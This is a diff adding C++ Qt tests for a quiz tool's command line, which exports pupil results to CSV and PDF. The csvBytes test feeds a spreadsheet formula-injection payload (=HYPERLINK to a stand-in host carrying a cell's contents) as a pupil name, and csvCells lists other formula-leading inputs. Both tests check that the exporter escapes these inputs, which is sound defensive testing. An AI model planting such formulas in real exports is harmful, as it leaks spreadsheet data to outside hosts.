@@ -5,12 +5,20 @@
 #include "control/commandline.h"
 #include "result/journal.h"
 #include "result/journalline.h"
+#include "teacher/csvexport.h"
 
 #include <QDir>
 #include <QFile>
 #include <QProcess>
+#include <QRegularExpression>
+#include <QStringEncoder>
+#include <QScopeGuard>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <sys/stat.h>
+#include <unistd.h>
 
 using Mode = CommandLine::Mode;
 Q_DECLARE_METATYPE(Mode)
@@ -32,14 +40,16 @@ struct Ran {
     int code = -1;
     QByteArray out, err;
 };
-Ran netquiz(const QStringList &args, const QString &folder = {}, const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment())
+// The built netquiz, or `program` (which starts netquiz itself) with these arguments.
+Ran netquiz(const QStringList &args, const QString &folder = {}, const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment(),
+            const QString &program = QStringLiteral(NETQUIZ_EXE))
 {
     QProcess p;
     p.setProcessEnvironment(env);
     if (!folder.isEmpty())
         p.setWorkingDirectory(folder);
-    p.start(QStringLiteral(NETQUIZ_EXE), args);
-    if (!p.waitForFinished(20000))
+    p.start(program, args);
+    if (!p.waitForFinished(50000))
         return {};
     return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, p.readAllStandardOutput(), p.readAllStandardError()};
 }
@@ -67,6 +77,15 @@ private slots:
     void exitCodes();
     void csvBytes();
     void csvOfDefaultAndRelativeJournal();
+    void csvCells_data();
+    void csvCells();
+    void refusedOutputs_data();
+    void refusedOutputs();
+    void unreadableAsAnotherUser_data();
+    void unreadableAsAnotherUser();
+    void hugeJournalInBoundedMemory();
+    void pdfReportOfTwoClasses();
+    void csvFollowsListAndRule();
 
 private:
     QTemporaryDir dir;
@@ -89,7 +108,13 @@ void CommandLineTest::decides_data()
                                                     << relative << QStringList{home, relative};
     QTest::addRow("results: paths as given") << QStringList{"--results", "a", "b/1.txt"} << Mode::Results << home
                                              << QStringList{"a", "b/1.txt"};
-    QTest::addRow("csv") << QStringList{"--csv", "o.csv", "--results", "a"} << Mode::Csv << QString() << QStringList{"a"};
+    QTest::addRow("csv") << QStringList{"--csv", "o.csv", "--results", "a"} << Mode::Export << QString() << QStringList{"a"};
+    QTest::addRow("pdf") << QStringList{"--results", "--pdf", "o.pdf", "a"} << Mode::Export << QString() << QStringList{"a"};
+    QTest::addRow("lists and a rule, window") << QStringList{"--results", "--class-list", "9-А.txt", "--attempt", "best"} << Mode::Results
+                                              << home << QStringList{home};
+    QTest::addRow("pdf without results") << QStringList{"--pdf", "o.pdf"} << Mode::Done << QString() << QStringList{};
+    QTest::addRow("list without results") << QStringList{"--class-list", "9-А.txt"} << Mode::Done << QString() << QStringList{};
+    QTest::addRow("a rule that is none") << QStringList{"--results", "--attempt", "last"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("help") << QStringList{"--help", "--bogus"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("csv without results") << QStringList{"--csv", "o.csv"} << Mode::Done << QString() << QStringList{};
     QTest::addRow("path without results") << QStringList{"a"} << Mode::Done << QString() << QStringList{};
@@ -105,7 +130,7 @@ void CommandLineTest::decides()
     QCOMPARE(line.mode, mode);
     if (mode == Mode::Done)
         return;
-    if (mode != Mode::Csv)
+    if (mode != Mode::Export)
         QCOMPARE(line.journalFile, journalFile);
     QCOMPARE(line.resultPaths, resultPaths);
 }
@@ -118,10 +143,17 @@ void CommandLineTest::exitCodes_data()
     QTest::addColumn<int>("code");
     QTest::addColumn<QString>("says"); // on stdout for 0, else on stderr
     QTest::addRow("help") << QStringList{"--help"} << 0 << "--results [ШЛЯХ...]";
+    QTest::addRow("help names every exit code") << QStringList{"--help"} << 0 << "3 - файли записано, але якийсь журнал";
+    QTest::addRow("help names the report") << QStringList{"--help"} << 0 << "--pdf ФАЙЛ.pdf";
+    QTest::addRow("a rule that is none") << QStringList{"--results", "--attempt", "last"} << 2 << "latest, best або first";
+    QTest::addRow("a class list that is not there") << QStringList{"--results", "--csv", "o.csv", "--class-list", "9-Я.txt", "1.txt"} << 3 << "«9-Я.txt»";
+    QTest::addRow("pdf needs no display") << QStringList{"--results", "--pdf", "r.pdf", "1.txt"} << 0 << "";
+    QTest::addRow("pdf over the class list") << QStringList{"--results", "--pdf", "1.txt.pdf", "--class-list", "1.txt.pdf", "1.txt"} << 2
+                                             << "це список класу; звіт PDF не записано";
     QTest::addRow("version") << QStringList{"--version"} << 0 << "netquiz 1.";
     QTest::addRow("unknown option") << QStringList{"--bogus"} << 2 << "невідомий параметр «--bogus»";
     QTest::addRow("missing value") << QStringList{"--journal"} << 2 << "«--journal» потребує значення";
-    QTest::addRow("csv of a missing path") << QStringList{"--results", "--csv", "o.csv", "немає/1.txt"} << 2 << "«немає/1.txt»";
+    QTest::addRow("csv of a missing path") << QStringList{"--results", "--csv", "o.csv", "немає/1.txt", "1.txt"} << 3 << "«немає/1.txt»";
     QTest::addRow("csv into a missing folder") << QStringList{"--results", "--csv", "немає/o.csv", "1.txt"} << 2 << "немає/o.csv";
     QTest::addRow("test without a display") << QStringList{} << 1 << "a graphical session is needed";
     QTest::addRow("view without a display") << QStringList{"--results"} << 1 << "потрібен графічний сеанс";
@@ -139,7 +171,11 @@ void CommandLineTest::exitCodes()
     const Ran ran = netquiz(args, dir.path(), env);
     QCOMPARE(ran.code, code);
     QVERIFY2(QString::fromUtf8(code == 0 ? ran.out : ran.err).contains(says), ran.err.constData());
-    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("o.csv")))); // nothing written on failure
+    // Written with what could be read when something could not (3); otherwise nothing is written.
+    QCOMPARE(QFile::exists(dir.filePath(QStringLiteral("o.csv"))), code == 3);
+    if (code == 3)
+        QVERIFY(QString::fromUtf8(readAll(dir.filePath(QStringLiteral("o.csv")))).contains(QStringLiteral(";Іван;9;07.12.26;5;")));
+    QFile::remove(dir.filePath(QStringLiteral("o.csv")));
 }
 
 // Catches any byte of the CSV going astray: BOM, header, quoting, CR LF, file and line order,
@@ -148,18 +184,24 @@ void CommandLineTest::csvBytes()
 {
     const QString a = dir.filePath(QStringLiteral("клас/ПК-2/1.txt")), b = dir.filePath(QStringLiteral("клас/ПК-1/1.txt"));
     QVERIFY(write(a, journal::record("O\"Нілл; Ганна", "9-А", "07.12.26", "12") + "\r\n" +
-                         journal::record("Олена - Марія", "9;Б", "7.12.2026", "5")));
-    QVERIFY(write(b, (journal::kTopic + " - Іван - 9-А - 06.12.26 - Оцінка - 7\n").toUtf8()));
+                         journal::record("Олена - Марія", "9;Б", "7.12.2026", "5") +
+                         journal::record("=HYPERLINK(\"http://x/?\"&A1;\"Іван\")", "+1", "07.12.26", "9")));
+    // The last line torn (12 cut to 1, no line end): listed, not exported.
+    QVERIFY(write(b, (journal::kTopic + " - Іван - 9-А - 06.12.26 - Оцінка - 7\n").toUtf8() +
+                         journal::record("Петро", "9-А", "06.12.26", "12").chopped(3)));
+    // The folder named twice, once through a link to it: each journal read once.
+    QVERIFY(QFile::link(dir.filePath(QStringLiteral("клас")), dir.filePath(QStringLiteral("посилання"))));
     const QString out = dir.filePath(QStringLiteral("out.csv"));
-    const Ran ran = netquiz({"--results", "--csv", out, dir.filePath(QStringLiteral("клас"))});
+    const Ran ran = netquiz({"--results", "--csv", out, dir.filePath(QStringLiteral("клас")), dir.filePath(QStringLiteral("посилання"))});
     QCOMPARE(ran.code, 0);
     const QByteArray topic = journal::kTopicName.toUtf8();
-    const QByteArray expected = "\xEF\xBB\xBF" "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок\r\n" +
-                                topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1\r\n" +
-                                topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" + a.toUtf8() + ";1\r\n" +
-                                topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3\r\n";
+    const QByteArray expected = "\xEF\xBB\xBF" "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок;Позначки\r\n" +
+                                topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1;\r\n" +
+                                topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" + a.toUtf8() + ";1;\r\n" +
+                                topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3;непевна межа імені й класу\r\n" +
+                                topic + ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4;\r\n";
     QCOMPARE(readAll(out), expected);
-    QCOMPARE(ran.err, a.toUtf8() + ":2: порожній рядок\n");
+    QCOMPARE(ran.err, b.toUtf8() + ":2: незавершений рядок: немає кінця рядка\n" + a.toUtf8() + ":2: порожній рядок\n");
 }
 
 // Catches --journal left relative to some other folder, and the view's default sources.
@@ -175,6 +217,267 @@ void CommandLineTest::csvOfDefaultAndRelativeJournal()
     const QString csv = QString::fromUtf8(readAll(dir.filePath(QStringLiteral("both.csv"))));
     QVERIFY2(csv.contains(QStringLiteral(";Домашній;")), qPrintable(csv));
     QVERIFY2(csv.contains(QStringLiteral(";Спільний;9;07.12.26;7;%1;1").arg(dir.filePath(QStringLiteral("спільна/1.txt")))), qPrintable(csv));
+}
+
+// A cell a spreadsheet would run as a formula is written as text. Catches a name such as
+// =HYPERLINK(...) reaching the teacher's spreadsheet as a working formula, and harmless text
+// changed.
+void CommandLineTest::csvCells_data()
+{
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<QByteArray>("cell");
+    QTest::addRow("=") << "=1+2" << QByteArray("'=1+2");
+    QTest::addRow("+") << "+380501234567" << QByteArray("'+380501234567");
+    QTest::addRow("-") << "-2+3" << QByteArray("'-2+3");
+    QTest::addRow("@") << "@SUM(A1)" << QByteArray("'@SUM(A1)");
+    QTest::addRow("tab") << "\t=1" << QByteArray("'\t=1");
+    QTest::addRow("CR, quoted after the apostrophe") << "\r=1" << QByteArray("\"'\r=1\"");
+    QTest::addRow("; and quotes, quoted after the apostrophe") << "=A1&\";\"" << QByteArray("\"'=A1&\"\";\"\"\"");
+    QTest::addRow("= inside: as it is") << "Іван=Петро" << QByteArray("Іван=Петро");
+    QTest::addRow("blank first: as it is") << " =1" << QByteArray(" =1");
+    QTest::addRow("empty") << "" << QByteArray("");
+}
+
+void CommandLineTest::csvCells()
+{
+    QFETCH(QString, name);
+    QFETCH(QByteArray, cell);
+    journal::Entry entry;
+    entry.topic = QStringLiteral("Т");
+    entry.name = name;
+    entry.group = QStringLiteral("9");
+    entry.date = QStringLiteral("07.12.26");
+    entry.grade = QStringLiteral("5");
+    teacher::CsvDocument csv;
+    const qsizetype header = csv.bytes().size();
+    csv.add(entry, QStringLiteral("/к/1.txt"), 3);
+    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3;\r\n"));
+}
+
+// --csv never writes over a journal: not one being read (however OUT leads to it), not any 1.txt.
+// Catches `--csv 1.txt 1.txt` replacing the journal with a table.
+void CommandLineTest::refusedOutputs_data()
+{
+    QTest::addColumn<QString>("out");
+    QTest::addColumn<QString>("read");
+    QTest::addColumn<QString>("says");
+    QTest::addRow("the journal read") << "клас/ПК-1/1.txt" << "клас/ПК-1/1.txt" << "це журнал, який читається";
+    QTest::addRow("a journal in the folder read") << "клас/ПК-1/1.txt" << "клас" << "це журнал, який читається";
+    QTest::addRow("a journal reached through a link to its folder") << "клас/ПК-1/1.txt" << "до-класу" << "це журнал, який читається";
+    QTest::addRow("a link to a journal read") << "до-журналу.csv" << "клас" << "це журнал, який читається";
+    QTest::addRow("a journal named otherwise, read") << "інший/журнал.txt" << "інший/журнал.txt" << "це журнал, який читається";
+    QTest::addRow("it, through a link to its folder") << "до-іншого/журнал.txt" << "інший/журнал.txt" << "це журнал, який читається";
+    QTest::addRow("another journal, not read") << "інший/1.txt" << "клас" << "на місце журналу 1.txt";
+    QTest::addRow("a journal's name in capitals") << "інший/1.TXT" << "клас" << "на місце журналу 1.txt";
+    QTest::addRow("a link to a 1.txt yet to be") << "до-нового.csv" << "клас" << "на місце журналу 1.txt";
+}
+
+void CommandLineTest::refusedOutputs()
+{
+    QFETCH(QString, out);
+    QFETCH(QString, read);
+    QFETCH(QString, says);
+    QTemporaryDir here;
+    const QByteArray journalBytes = journal::record("Іван", "9", "07.12.26", "5");
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-1/1.txt")), journalBytes));
+    QVERIFY(write(here.filePath(QStringLiteral("інший/1.txt")), journalBytes));
+    QVERIFY(write(here.filePath(QStringLiteral("інший/журнал.txt")), journalBytes));
+    QVERIFY(QFile::link(QStringLiteral("інший"), here.filePath(QStringLiteral("до-іншого"))));
+    QVERIFY(QFile::link(QStringLiteral("клас"), here.filePath(QStringLiteral("до-класу"))));
+    QVERIFY(QFile::link(QStringLiteral("клас/ПК-1/1.txt"), here.filePath(QStringLiteral("до-журналу.csv"))));
+    QVERIFY(QFile::link(QStringLiteral("новий/1.txt"), here.filePath(QStringLiteral("до-нового.csv"))));
+    const Ran ran = netquiz({"--results", "--csv", out, read}, here.path());
+    QCOMPARE(ran.code, 2);
+    QVERIFY2(QString::fromUtf8(ran.err).contains(says), ran.err.constData());
+    QVERIFY2(QString::fromUtf8(ran.err).contains(QStringLiteral("таблицю CSV не записано")), ran.err.constData());
+    QCOMPARE(readAll(here.filePath(QStringLiteral("клас/ПК-1/1.txt"))), journalBytes);
+    QCOMPARE(readAll(here.filePath(QStringLiteral("інший/1.txt"))), journalBytes);
+    QCOMPARE(readAll(here.filePath(QStringLiteral("інший/журнал.txt"))), journalBytes);
+    QVERIFY(!QFile::exists(here.filePath(QStringLiteral("новий/1.txt"))));
+    // No temporary file left beside them.
+    QCOMPARE(QDir(here.path()).entryList(QDir::Files | QDir::System | QDir::Hidden, QDir::Name),
+             (QStringList{"до-журналу.csv", "до-нового.csv"}));
+}
+
+// A journal that may only be written and a folder that may not be listed, by its owner or anyone
+// else; read by another user when run as root (root reads everything), else by the owner.
+// Catches unreadable journals and folders dropped without a word and exit 0,
+// and an unreadable folder called empty.
+void CommandLineTest::unreadableAsAnotherUser_data()
+{
+    QTest::addColumn<QString>("named");
+    QTest::addColumn<QStringList>("says"); // on stderr, each
+    QTest::addColumn<QStringList>("names"); // in the CSV, in order
+    const QString noRight = QStringLiteral("(немає права читання (Permission denied))");
+    QTest::addRow("the class folder") << "клас"
+                                      << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-3» " + noRight,
+                                                     "netquiz: Не вдалося прочитати «клас/ПК-2/1.txt» " + noRight}
+                                      << QStringList{"Іван", "Ганна"};
+    QTest::addRow("the unreadable folder") << "клас/ПК-3" << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-3» " + noRight}
+                                           << QStringList{};
+    QTest::addRow("the unreadable journal") << "клас/ПК-2/1.txt"
+                                            << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-2/1.txt» " + noRight}
+                                            << QStringList{};
+}
+
+void CommandLineTest::unreadableAsAnotherUser()
+{
+    QFETCH(QString, named);
+    QFETCH(QStringList, says);
+    QFETCH(QStringList, names);
+    const bool root = ::geteuid() == 0;
+    const QString setpriv = QStandardPaths::findExecutable(QStringLiteral("setpriv"));
+    if (root && setpriv.isEmpty()) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs setpriv to run netquiz as another user");
+        QSKIP("needs setpriv to run netquiz as another user");
+    }
+    QTemporaryDir here;
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-1/1.txt")), journal::record("Іван", "9", "07.12.26", "5") +
+                                                                        journal::record("Ганна", "9", "07.12.26", "7")));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-2/1.txt")), journal::record("Петро", "9", "07.12.26", "8")));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-3/1.txt")), journal::record("Олег", "9", "07.12.26", "9")));
+    QVERIFY(QDir().mkpath(here.filePath(QStringLiteral("вихід"))));
+    auto mode = [&](const char *path, mode_t m) { return ::chmod(QFile::encodeName(here.filePath(QString::fromUtf8(path))), m) == 0; };
+    QVERIFY(mode("", 0755) && mode("вихід", 0777) && mode("клас/ПК-1/1.txt", 0644) && mode("клас/ПК-2/1.txt", 0200) &&
+            mode("клас/ПК-3", 0300));
+    const auto restore = qScopeGuard([&] { mode("клас/ПК-3", 0700); }); // for the folder to be removed
+    const QStringList csv{"--results", "--csv", "вихід/o.csv", named};
+    const Ran ran = root ? netquiz(QStringList{"--reuid=65534", "--regid=65534", "--clear-groups", QStringLiteral(NETQUIZ_EXE)} + csv,
+                                   here.path(), QProcessEnvironment::systemEnvironment(), setpriv)
+                         : netquiz(csv, here.path());
+    QCOMPARE(ran.code, 3);
+    const QStringList err = QString::fromUtf8(ran.err).split(u'\n', Qt::SkipEmptyParts);
+    QCOMPARE(err, says);
+    QStringList got;
+    const QStringList rows = QString::fromUtf8(readAll(here.filePath(QStringLiteral("вихід/o.csv")))).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
+    for (qsizetype i = 1; i < rows.size(); ++i)
+        got << rows[i].section(u';', 1, 1);
+    QCOMPARE(got, names);
+}
+
+// A journal of 1 GiB of nothing (a sparse file) and 128 MiB of letters in one line, then one
+// result: read in bounded memory. Catches the whole file, or the whole line, kept in memory
+// (under this limit the program aborts then).
+void CommandLineTest::hugeJournalInBoundedMemory()
+{
+    const QString prlimit = QStandardPaths::findExecutable(QStringLiteral("prlimit"));
+    if (prlimit.isEmpty()) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs prlimit (util-linux)");
+        QSKIP("needs prlimit (util-linux)");
+    }
+#ifdef __SANITIZE_ADDRESS__
+    // AddressSanitizer's shadow memory alone takes terabytes of address space: no limit on it can
+    // tell a kept line from the sanitizer. The release build runs this test.
+    QSKIP("an address-space limit cannot hold a program built with AddressSanitizer");
+#endif
+    QTemporaryDir here;
+    const QString path = here.filePath(QStringLiteral("1.txt"));
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly) && file.resize(qint64(1) << 30) && file.seek(file.size()));
+    QVERIFY(file.write(QByteArray(128 << 20, 'x') + "\r\n" + journal::record("Іван", "9", "07.12.26", "5")) > 0);
+    file.close();
+    const Ran ran = netquiz({"--as=400000000", QStringLiteral(NETQUIZ_EXE), "--results", "--csv", "o.csv", "1.txt"},
+                            here.path(), QProcessEnvironment::systemEnvironment(), prlimit);
+    QCOMPARE(ran.code, 0);
+    QCOMPARE(ran.err, QByteArray("1.txt:1: задовгий рядок: 1207959552 байтів, більше ніж 4096\n"));
+    QVERIFY(readAll(here.filePath(QStringLiteral("o.csv"))).endsWith(";Іван;9;07.12.26;5;1.txt;2;\r\n"));
+}
+
+namespace {
+// Two classes of 20: 9-А with its list of 23 (three have not taken the test, one typed her name
+// first-name first), 9-Б without a list.
+const QStringList kNineA{"Бойко Іван", "Коваль Олена", "Мельник Тарас", "Шевченко Ярина", "Гнатюк Остап", "Ткаченко Дарина",
+                         "Лисенко Максим", "Кравець Софія", "Олійник Назар", "Петренко Марія", "Бондар Андрій", "Савчук Ірина",
+                         "Дячук Богдан", "Мороз Катерина", "Кузьмич Роман", "Остапчук Лілія", "Романюк Денис", "Гуменюк Оксана",
+                         "Зінченко Юрій", "Павлюк Надія", "Васильченко Артем", "Тимошенко Зоряна", "Головко Віктор"};
+const QStringList kNineB{"Литвин Олег", "Собко Аліна", "Марченко Віталій", "Панченко Ганна", "Кравчук Ігор", "Нестеренко Тетяна",
+                         "Білик Микола", "Левченко Ольга", "Карпенко Степан", "Руденко Вікторія", "Сидоренко Павло", "Онищенко Уляна",
+                         "Фесенко Євген", "Яковенко Христина", "Захарченко Ілля", "Поліщук Мар'яна", "Гордієнко Святослав",
+                         "Чорновол Анна", "Юрченко Всеволод", "Ничипорук Злата"};
+bool writeTwoClasses(const QString &folder)
+{
+    QByteArray a, b;
+    for (int i = 0; i < 20; ++i) {
+        const QString name = i == 3 ? QStringLiteral("Ярина Шевченко") : kNineA[i];
+        a += journal::record(name, QStringLiteral("9-А"), QStringLiteral("%1.12.26").arg(1 + i % 5, 2, 10, QChar(u'0')),
+                             QString::number(i % 12 + 1));
+        b += journal::record(kNineB[i], QStringLiteral("9-Б"), QStringLiteral("%1.12.26").arg(2 + i % 5, 2, 10, QChar(u'0')),
+                             QString::number(i * 5 % 12 + 1));
+    }
+    return write(folder + QStringLiteral("/клас/ПК-1/1.txt"), a) && write(folder + QStringLiteral("/клас/ПК-2/1.txt"), b) &&
+           write(folder + QStringLiteral("/9-А.txt"), QStringEncoder("windows-1251").encode(kNineA.join(QStringLiteral("\r\n"))));
+}
+QString tool(const char *name)
+{
+    return QStandardPaths::findExecutable(QString::fromLatin1(name));
+}
+QString run(const QString &program, const QStringList &args)
+{
+    QProcess p;
+    p.start(program, args);
+    p.waitForFinished(30000);
+    return QString::fromUtf8(p.readAllStandardOutput());
+}
+} // namespace
+
+// The report as pdftotext reads it: every pupil, the three who have not taken the test, the
+// summary's figures, the table's header on every page and the page numbers; the typeface embedded.
+// Catches a report that loses rows, counts the absent among the grades, prints text as pictures
+// (nothing to search), or leaves the font out (boxes on a computer without it).
+void CommandLineTest::pdfReportOfTwoClasses()
+{
+    if (tool("pdftotext").isEmpty() || tool("pdffonts").isEmpty() || tool("pdfinfo").isEmpty()) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs pdftotext, pdffonts and pdfinfo (poppler-utils)");
+        QSKIP("needs pdftotext, pdffonts and pdfinfo (poppler-utils)");
+    }
+    QTemporaryDir here;
+    QVERIFY(writeTwoClasses(here.path()));
+    const QString pdf = here.filePath(QStringLiteral("звіт.pdf"));
+    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+    env.remove(QStringLiteral("QT_QPA_PLATFORM")); // no display needed
+    env.remove(QStringLiteral("DISPLAY"));
+    const Ran ran = netquiz({"--results", "--pdf", pdf, "--class-list", "9-А.txt", "клас"}, here.path(), env);
+    QCOMPARE(ran.code, 0);
+    const QString text = run(tool("pdftotext"), {QStringLiteral("-layout"), pdf, QStringLiteral("-")});
+    for (const QString &name : kNineA.mid(0, 3) + kNineA.mid(4) + kNineB + QStringList{"Ярина Шевченко"})
+        QVERIFY2(text.contains(name), qPrintable(name));
+    QCOMPARE(text.count(QStringLiteral("не складав(ла)")), 3);
+    for (const QString &absent : kNineA.mid(20))
+        QVERIFY(QRegularExpression(absent + QStringLiteral(R"(\s+9-А\s+не складав\(ла\))")).match(text).hasMatch());
+    QVERIFY2(text.contains(QStringLiteral("Учнів: 40 · середня 6,1 · медіана 6 · не складали: 3")), qPrintable(text));
+    QVERIFY(text.contains(QStringLiteral("Враховано спробу: остання")));
+    const int pages = QRegularExpression(QStringLiteral(R"(Pages:\s+(\d+))"))
+                          .match(run(tool("pdfinfo"), {pdf}))
+                          .captured(1)
+                          .toInt();
+    QVERIFY(pages >= 2);
+    for (int page = 1; page <= pages; ++page)
+        QVERIFY2(text.contains(QStringLiteral("Сторінка %1 з %2").arg(page).arg(pages)), qPrintable(text));
+    QCOMPARE(text.count(QStringLiteral("Прізвище та ім'я")), pages); // the table's header on every page
+    QVERIFY(text.indexOf(QStringLiteral("Ничипорук Злата")) < text.indexOf(QStringLiteral("Васильченко Артем")));
+    const QStringList fonts = run(tool("pdffonts"), {pdf}).split(QChar(u'\n')).mid(2, 1);
+    QVERIFY2(!fonts.isEmpty() && fonts[0].contains(QStringLiteral("Andika")) &&
+                 QRegularExpression(QStringLiteral(R"(\byes\b)")).match(fonts[0]).hasMatch(),
+             qPrintable(fonts.join(u'\n')));
+}
+
+// The CSV holds the pupils without a result and says which attempt counted under the rule given.
+// Catches the CSV ignoring --attempt or the class list.
+void CommandLineTest::csvFollowsListAndRule()
+{
+    QTemporaryDir here;
+    QVERIFY(writeTwoClasses(here.path()));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-3/1.txt")), journal::record("Бойко Іван", "9-А", "07.12.26", "2")));
+    const Ran ran = netquiz({"--results", "--csv", "o.csv", "--class-list", "9-А.txt", "--attempt", "best", "клас"}, here.path());
+    QCOMPARE(ran.code, 0);
+    const QString csv = QString::fromUtf8(readAll(here.filePath(QStringLiteral("o.csv"))));
+    QVERIFY2(csv.contains(QStringLiteral(";Бойко Іван;9-А;01.12.26;1;клас/ПК-1/1.txt;1;спроба 1 з 2\r\n")), qPrintable(csv));
+    QVERIFY2(csv.contains(QStringLiteral(";Бойко Іван;9-А;07.12.26;2;клас/ПК-3/1.txt;1;спроба 2 з 2, врахована\r\n")), qPrintable(csv));
+    QVERIFY2(csv.contains(QStringLiteral(";Головко Віктор;9-А;;;9-А.txt;23;не складав(ла)\r\n")), qPrintable(csv));
+    QCOMPARE(csv.count(QStringLiteral("не складав(ла)")), 3);
 }
 
 QTEST_GUILESS_MAIN(CommandLineTest)
